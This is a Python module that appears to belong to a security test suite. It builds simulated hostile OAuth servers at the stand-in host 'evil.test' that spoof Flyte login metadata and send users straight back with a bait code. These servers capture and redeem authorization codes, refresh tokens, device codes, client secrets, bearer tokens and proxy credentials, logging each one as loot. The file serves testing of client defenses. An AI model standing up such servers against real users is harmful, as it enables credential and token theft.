"""What hostile servers have in common: they redeem what they are sent, and tell what it was worth.

Each is a program that stands alone. With `--honest` it is the honest set-up of the same shape."""

import argparse

import at_provider
import flyte
import flyte_server
from origin import Origin
from provider import PUBLIC_CLIENT
from told import serve, tell
from web import Answer, Handler, Request, Site, as_json, redirect, with_query

BAIT_CODE = "bait"
BAIT = {"access_token": "bait", "token_type": "Bearer", "expires_in": 3600}


class Hostile:
    """One host of the attacker's: a Flyte, a website, and the people's provider if it says so."""

    def __init__(self, host: str = "evil.test") -> None:
        parser = argparse.ArgumentParser()
        parser.add_argument("--honest", action="store_true")
        self.honest = parser.parse_args().honest
        self.host = host
        self.metadata = dict(flyte.METADATA)
        self.client = dict(flyte.CLIENT)
        self.site = Site(self.steal)

    def url(self, path: str = "", host: str | None = None) -> str:
        """A place of the attacker's."""
        return f"https://{host or self.host}{path}"

    def lie(self, **endpoints: str) -> None:
        """Says this about logging in, but for an honest server."""
        if not self.honest:
            self.metadata |= endpoints

    def route(self, path: str, handler: Handler) -> None:
        self.site.routes[path] = handler

    def publish(self, **metadata) -> None:
        """Is an issuer that says this about itself."""
        self.route("/.well-known/oauth-authorization-server", lambda _request: as_json(metadata))

    def own_provider(self) -> dict[str, str]:
        """A provider that is all the attacker's: who comes there is logged in at once."""
        own = {
            "issuer": self.url(),
            "authorization_endpoint": self.url("/authorize"),
            "token_endpoint": self.url("/token"),
            "device_authorization_endpoint": self.url("/device"),
        }
        self.publish(**own)
        self.route("/authorize", self.let_in)
        return own

    def let_in(self, request: Request) -> Answer:
        return redirect(with_query(request.query["redirect_uri"], {"code": BAIT_CODE, "state": request.query["state"]}))

    def steal(self, request: Request) -> Answer:
        """Takes what a request brings, and answers as a provider does."""
        redeemed = self.take(request)
        # The person may not have agreed yet.
        wait = "device_code" in request.form and request.form["device_code"] != BAIT_CODE and not redeemed
        return as_json({"error": "authorization_pending"}, 400) if wait else as_json(BAIT)

    def take(self, request: Request) -> bool:
        """Whether it could be redeemed."""
        form, redeemed = request.form, False
        for kind, name in [
            ("authorization code and verifier", "code"),
            ("refresh token", "refresh_token"),
            ("device code", "device_code"),
        ]:
            if name in form:
                redeemed = self.redeem(kind, {"client_id": PUBLIC_CLIENT} | form)
        secret = request.basic or (form.get("client_id"), form.get("client_secret"))
        if secret[1] is not None:
            redeemed = self.redeem("client secret", {"grant_type": "client_credentials"}, secret)
        if request.bearer:
            self.use("access token", request.bearer)
        if "proxy-authorization" in request.headers:
            tell(loot="proxy credentials", of="the proxy")
        return redeemed

    def redeem(self, kind: str, form: dict[str, str], basic: tuple[str, str] | None = None) -> bool:
        """Whether that brought tokens."""
        holder = at_provider.redeem(form, basic)
        if holder is not None:
            tell(loot=kind, of=holder)
        return holder is not None

    def use(self, kind: str, token: str) -> None:
        holder = at_provider.holder(token)
        if holder is not None:
            tell(loot=kind, of=holder)

    def judge(self, token: str | None) -> tuple[bool, str]:
        """Takes the token of a call, and rejects it for as long as there may be more to get."""
        if self.honest:
            return flyte.judge(token)
        if token is not None:
            self.use("access token", token)
        return (True, "bait-project") if token == BAIT["access_token"] else (False, "Unauthenticated")

    def run(self, others: dict[str, Site] | None = None, tls: bool = True) -> None:
        """Serves, together with websites of its own at other hosts."""
        Origin(self.host, self.site, flyte_server.start(self.metadata, self.client, self.judge), tls).start()
        for host, site in (others or {}).items():
            Origin(host, site, None).start()
        serve()
